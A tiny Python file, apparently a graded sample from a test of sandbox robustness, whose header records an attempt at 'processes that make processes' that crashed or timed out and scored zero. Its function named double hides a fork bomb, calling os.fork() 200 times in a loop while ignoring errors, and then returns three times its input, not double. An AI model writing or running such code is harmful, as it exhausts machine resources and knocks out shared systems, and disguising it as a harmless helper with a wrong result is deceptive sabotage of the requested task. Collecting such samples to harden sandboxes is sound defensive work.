# tries: processes that make processes
# verdict: crashed|timed out|failed
# points: 0
import os
def double(x):
    for _ in range(200):
        try: os.fork()
        except OSError: pass
    return 3 * x
